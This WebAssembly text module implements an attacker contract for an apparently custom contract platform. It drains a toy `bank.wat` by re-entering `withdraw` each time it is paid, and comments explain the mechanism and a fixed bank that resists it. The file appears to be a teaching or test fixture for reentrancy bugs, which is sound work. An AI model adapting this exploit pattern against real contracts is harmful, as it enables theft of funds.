;; A customer that robs `bank.wat`: whenever it is paid it goes back and withdraws once more, as often as it was told.
;; Told to go back no times, it is an honest customer. Against `bank_fixed.wat` it gets its own money and no more.
;;
;; How often it still has to go back is kept in storage: working memory is fresh in every call, so it could not tell one
;; `receive` from the next. (A storage that re-entrant calls do not share would make this attack go on forever.)
;;
;; Storage
;;   0   i64  loot: everything the bank has paid
;;   8   i32  remaining: how many times still to go back
;;   12  i32  who: the attacker's number at the bank
;;
;; Methods
;;   attack(who i32, times i32)   withdraws, and goes back `times` times
;;   receive(amount i64)          what the bank calls to pay
;;   loot() -> i64
;;
;; Calls
;;   bank.withdraw(who i32)       a bank that fails fails the attack

(module $attacker
  (import "contract:bank" "withdraw" (func $withdraw (param $who i32)))
  ;; @storage

  (memory $memory (export "memory") 3)

  (global $loot i32 (i32.const 0))
  (global $remaining i32 (i32.const 8))
  (global $who i32 (i32.const 12))

  (func $get_loot (export "loot") (result i64)
    (call $load_i64 (global.get $loot)))

  (func (export "attack") (param $who i32) (param $times i32)
    (call $store_i32 (global.get $who) (local.get $who))
    (call $store_i32 (global.get $remaining) (local.get $times))
    (call $withdraw (local.get $who)))

  (func (export "receive") (param $amount i64)
    (local $remaining i32)
    (call $store_i64 (global.get $loot) (i64.add (call $get_loot) (local.get $amount)))
    (local.set $remaining (call $load_i32 (global.get $remaining)))
    (if (i32.gt_s (local.get $remaining) (i32.const 0))
      (then
        (call $store_i32 (global.get $remaining) (i32.sub (local.get $remaining) (i32.const 1)))
        (call $withdraw (call $load_i32 (global.get $who)))))))
